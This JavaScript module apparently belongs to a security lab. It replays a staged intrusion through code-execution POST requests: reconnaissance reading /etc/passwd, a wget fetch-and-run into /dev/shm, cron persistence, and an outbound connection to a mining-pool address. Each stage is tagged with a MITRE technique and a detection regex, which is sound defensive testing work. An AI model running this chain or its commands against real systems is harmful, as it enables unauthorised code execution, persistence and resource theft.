// The attack, through the lab's own route, with harmless stand-ins: each stage is one request, and leaves nothing that
// would outlive the lab.
const sh = (/** @type {string} */ command) =>
  `return process.getBuiltinModule('node:child_process').execSync(${JSON.stringify(command)}, { timeout: 4000 }).toString()`;

/** An address of the December 2025 case: here a listener on the lab's wire, behind the egress list. */
const pool = '51.81.104.115';

/** @typedef {{ name: string, code: string, technique: string, named: RegExp }} Stage `named`: what the report says of it */

/** @type {readonly Stage[]} */
export const stages = [
  {
    name: 'reconnaissance',
    code: sh('id; uname -a; cat /etc/passwd'),
    technique: 'T1033',
    named: /id; uname -a; cat \/etc\/passwd/,
  },
  {
    name: 'fetch from a local server',
    code: sh('wget -q -T 1 -O /dev/shm/.x http://203.0.113.10:8099/x.sh || true'),
    technique: 'T1105',
    named: /wget -q -T 1 -O \/dev\/shm\/\.x http:\/\/203\.0\.113\.10:8099\/x\.sh/,
  },
  {
    name: 'write to /dev/shm',
    code: sh("printf '#!/bin/sh\\nwhile :; do :; done\\n' > /dev/shm/.x; chmod 755 /dev/shm/.x"),
    technique: 'T1222',
    named: /chmod 755 \/dev\/shm\/\.x/,
  },
  {
    name: 'execute: a busy loop',
    code: "const c = process.getBuiltinModule('node:child_process').spawn('sh', ['/dev/shm/.x'], { detached: true, stdio: 'ignore' }); c.unref(); return c.pid",
    technique: 'T1036',
    named: /sh \/dev\/shm\/\.x/,
  },
  {
    name: 'cron',
    code: sh("(crontab -l; echo '* * * * * sh /dev/shm/.x') | crontab - || true"),
    technique: 'T1053',
    named: /\| crontab -/,
  },
  {
    name: 'outbound connection',
    code: `return new Promise((done) => { const s = process.getBuiltinModule('node:net').connect(3333, '${pool}'); s.on('error', (e) => done(e.code)); setTimeout(() => { s.destroy(); done('no answer'); }, 800); })`,
    technique: 'T1071',
    named: /tcp\.connect 51\.81\.104\.115:3333/,
  },
];

/** Sends them, one after another. @param {import('./people.mjs').People} people @param {string} route */
export async function attack(people, route) {
  const intruder = people.at(23);
  /** @type {Record<string, string>} */ const answers = {};
  for (const { name, code } of stages) {
    const response = await intruder.ask(route, {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: code,
    });
    answers[name] = `${response.status} ${(await response.text()).slice(0, 60)}`;
  }
  return answers;
}
